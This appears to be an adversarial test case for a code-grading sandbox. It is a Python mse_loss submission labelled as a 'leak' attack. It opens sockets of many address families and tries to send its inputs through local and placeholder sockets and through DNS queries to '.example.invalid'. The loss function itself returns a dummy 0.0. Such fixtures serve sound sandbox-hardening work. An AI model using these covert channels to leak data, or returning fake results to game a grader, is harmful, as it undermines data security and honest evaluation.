# attack: opens sockets of every other family, and asks a name server for a name that holds the input
# class: leak
# base: stub
# exercise: mse_loss
# expect: no more points than base
# fast: yes
import socket
opened = []
for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            opened.append(socket.socket(family, kind))
        except OSError:
            pass
def tell(text):
    for s in opened:
        for address in (("127.0.0.1", int("@TCP@")), (2, int("@TCP@")), "@UNIX@", "\0@ABSTRACT@", ("lo", 0), (0, 0)):
            try:
                s.settimeout(0.05)
                s.connect(address)
                s.send(("@NAME@ " + text).encode())
            except (OSError, TypeError, ValueError, OverflowError):
                pass
    try:
        socket.getaddrinfo(text[:40] + ".example.invalid", 80)
    except (OSError, UnicodeError):
        pass
tell("started")
def mse_loss(y_hat, y):
    tell(str(y_hat))
    return 0.0
